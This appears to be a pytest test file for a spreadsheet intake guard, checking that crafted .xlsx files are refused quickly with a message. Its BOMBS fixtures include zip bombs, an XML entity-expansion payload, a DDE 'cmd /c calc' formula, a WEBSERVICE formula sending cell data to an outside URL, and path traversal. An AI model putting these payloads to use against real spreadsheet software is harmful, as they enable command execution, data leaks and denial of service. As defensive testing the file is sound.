"""What the guard refuses, quickly and with a sentence, and what it lets pass."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from assessment.intake.guard import RefusedError, column_number, inspect
from assessment.intake.layout import column_letter
from assessment.intake.run import intake
from assessment.intake.workbook import read_limited, read_workbook
from assessment.params.model import Params

SHEET = "xl/worksheets/sheet1.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def plain(rows: int = 3, columns: int = 2) -> bytes:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        sheet = book.add_worksheet("表")
        for row in range(rows):
            for column in range(columns):
                sheet.write(row, column, row * column + 0.5)
    return stream.getvalue()


def changed(parts: dict[str, bytes | None], data: bytes | None = None) -> bytes:
    """Return a workbook with parts replaced, added, or (None) left out."""
    source = zipfile.ZipFile(io.BytesIO(data or plain()))
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            if name not in parts:
                target.writestr(name, source.read(name))
        for name, content in parts.items():
            if content is not None:
                target.writestr(name, content)
    return stream.getvalue()


def sheet(body: str, prolog: str = "<?xml version='1.0' encoding='UTF-8'?>") -> bytes:
    text = f'{prolog}<worksheet xmlns="{MAIN}"><sheetData>{body}</sheetData></worksheet>'
    return changed({SHEET: text.encode()})


def formula(text: str) -> bytes:
    return sheet(f'<row r="1"><c r="A1"><f>{text}</f><v>1</v></c></row>')


def workbook_xml(name: str) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(plain())).read("xl/workbook.xml").decode()
    return changed({"xl/workbook.xml": source.replace('name="表"', f'name="{name}"').encode()})


def zip_bomb() -> bytes:
    filler = b'<row r="1"><c r="A1"><v>1</v></c></row>'
    return sheet("") and changed(
        {SHEET: b"<worksheet><sheetData>" + filler * 1_800_000 + b"</sheetData></worksheet>"}
    )


def overlapping() -> bytes:
    """A zip whose entry says that it is smaller than it is."""
    data = bytearray(changed({SHEET: b"<worksheet>" + b" " * 3_000_000 + b"</worksheet>"}))
    at = data.rindex(SHEET.encode()) - 46
    data[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(data)


DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
ENTITIES = f"{DOCTYPE}<sst xmlns='{MAIN}'><si><t>&b;</t></si></sst>".encode()
FAR = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'

BOMBS = {
    "sparse": (lambda: sheet(f'<row r="1"><c r="A1"><v>1</v></c></row>{FAR}'), "展开后"),
    "sparse, other quotes": (lambda: sheet(FAR.replace('"', "'")), "展开后"),
    "sparse, prefixed": (
        lambda: changed({SHEET: f"<x:worksheet xmlns:x='{MAIN}'><x:sheetData>"
                        f"{FAR.replace('<', '<x:').replace('<x:/', '</x:')}"
                        "</x:sheetData></x:worksheet>".encode()}), "展开后"),
    "sparse, hidden behind an attribute": (
        lambda: sheet(FAR.replace("<c r=", '<c s="0" r=')), "展开后"),
    "sparse, in characters": (lambda: sheet(FAR.replace("XFD", "&#88;FD")), "展开后"),
    "sparse, in UTF-16": (
        lambda: changed({SHEET: f'<?xml version="1.0" encoding="UTF-16"?><worksheet xmlns="{MAIN}">'
                         f"<sheetData>{FAR}</sheetData></worksheet>".encode("utf-16")}), "展开后"),
    "zip": (zip_bomb, "远大于"),
    "zip that lies about its size": (overlapping, ""),
    "entities": (lambda: changed({"xl/sharedStrings.xml": ENTITIES}), "实体"),
    "entities in the sheet": (lambda: sheet("", DOCTYPE), "实体"),
    "web service": (lambda: formula('WEBSERVICE("http://a.b/?"&amp;A2)'), "以外的内容"),
    "dde": (lambda: formula("cmd|' /c calc'!A1"), "以外的内容"),
    "other workbook": (lambda: formula("[1]Sheet1!A1"), "以外的内容"),
    "network path": (lambda: formula(r"'\\host\share\[b.xlsx]S'!A1"), "以外的内容"),
    "external link": (lambda: changed({"xl/externalLinks/externalLink1.xml": b"<a/>"}), "外部链接"),
    "macros": (lambda: changed({"xl/vbaProject.bin": b"x"}), "宏"),
    "sheet name of 500": (lambda: workbook_xml("表" * 500), "500 个字"),
    "path in a part": (lambda: changed({"../../evil.xml": b"<a/>"}), "路径"),
    "part twice": (lambda: changed({"XL/worksheets/SHEET1.xml": b"<a/>"}), "重复"),
    "old format": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "旧格式"),
    "no zip": (lambda: b"hello", "不是 Excel"),
    "word document": (lambda: changed({"xl/workbook.xml": None}), "不是 Excel"),
    "cut short": (lambda: plain()[:2000], "损坏"),
    "no xml": (lambda: changed({SHEET: b"garbage <c r='XFD1048576'/>"}), "损坏"),
    "empty": (lambda: b"", "为空"),
}  # fmt: skip


@pytest.mark.parametrize("name", BOMBS)
def test_bombs_and_tricks_are_refused_in_a_second_and_nothing_is_written(
    name: str, params: Params, tmp_path: Path, empty_pack: Path
) -> None:
    make, words = BOMBS[name]
    path = tmp_path / "报表.xlsx"
    path.write_bytes(make())
    before = sorted(empty_pack.rglob("*"))
    start = time.process_time()
    with pytest.raises(RefusedError) as refusal:
        read_workbook(read_limited(path))
    assert time.process_time() - start < 1.0
    assert words in refusal.value.problem
    report = intake([path], empty_pack, params)
    assert [w.status for w in report.workbooks] == ["refused"]
    assert len(report.faults) == 1
    assert report.faults[0].file == "报表.xlsx"
    assert sorted(empty_pack.rglob("*")) == before


def test_fifty_thousand_rows_are_read_in_three_seconds() -> None:
    cells = "".join(f'<c r="{column_letter(c)}#"><v>{c}.25</v></c>' for c in range(1, 13))
    rows = (f'<row r="{n}">{cells.replace("#", str(n))}</row>' for n in range(1, 50_001))
    data = sheet("".join(rows))
    start = time.process_time()
    book = read_workbook(data)
    assert time.process_time() - start < 3.0
    assert len(book.sheets["表"].rows) == 50_000
    assert book.sheets["表"].scan.cells == 600_000


def test_the_quick_scan_and_the_walk_agree() -> None:
    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    page["C5"], page["AB7"] = 1.5, "文字"
    stream = io.BytesIO()
    book.save(stream)
    quick = next(iter(inspect(stream.getvalue()).values()))
    page["A1"] = "=1+1"
    page.merge_cells("D9:E9")
    page.row_dimensions[5].hidden = True
    page.column_dimensions["G"].hidden = True
    stream = io.BytesIO()
    book.save(stream)
    walked = next(iter(inspect(stream.getvalue()).values()))
    assert (quick.rows, quick.columns, quick.cells) == (7, 28, 2)
    assert quick.formulas == {}
    assert (walked.rows, walked.columns) == (7, 28)
    assert set(walked.formulas) == {"A1"}
    assert walked.merged == ["D9:E9"]
    assert walked.hidden_rows == {5}
    assert walked.hidden_columns == [(7, 7)]


def test_a_formula_with_a_value_and_an_error_are_told_apart() -> None:
    scan = inspect(
        sheet(
            '<row r="1"><c r="A1"><f>1+1</f><v>2</v></c><c r="B1" t="e"><f>1/0</f>'
            '<v>#DIV/0!</v></c><c r="C1"><f>A1</f></c></row>'
        )
    )["表"]
    assert scan.formulas == {"A1": True, "B1": True, "C1": False}
    assert scan.errors == {"B1"}


@given(st.integers(1, 16384))
@settings(max_examples=50, deadline=None)
def test_letters_and_numbers_of_columns_are_inverse(number: int) -> None:
    assert column_number(column_letter(number)) == number


@given(st.binary(max_size=300))
@settings(max_examples=100, deadline=None)
def test_no_bytes_end_in_a_traceback(data: bytes) -> None:
    for candidate in (data, b"PK\x03\x04" + data):
        with pytest.raises(RefusedError):
            read_workbook(candidate)


WORKBOOK = plain()


@given(st.lists(st.tuples(st.integers(0, len(WORKBOOK) - 1), st.integers(0, 255)), max_size=8))
@settings(max_examples=150, deadline=None)
def test_no_damage_to_a_workbook_ends_in_a_traceback(damage: list[tuple[int, int]]) -> None:
    data = bytearray(WORKBOOK)
    for at, byte in damage:
        data[at] = byte
    try:
        read_workbook(bytes(data))
    except RefusedError as refusal:
        assert refusal.problem


XML = st.text(st.sampled_from("<>/c=\"' r1AXFD:rowvfs&;#!-[]"), max_size=120)


@given(XML)
@settings(max_examples=100, deadline=None)
def test_no_sheet_ends_in_a_traceback(body: str) -> None:
    try:
        read_workbook(sheet(body))
    except RefusedError as refusal:
        assert refusal.problem
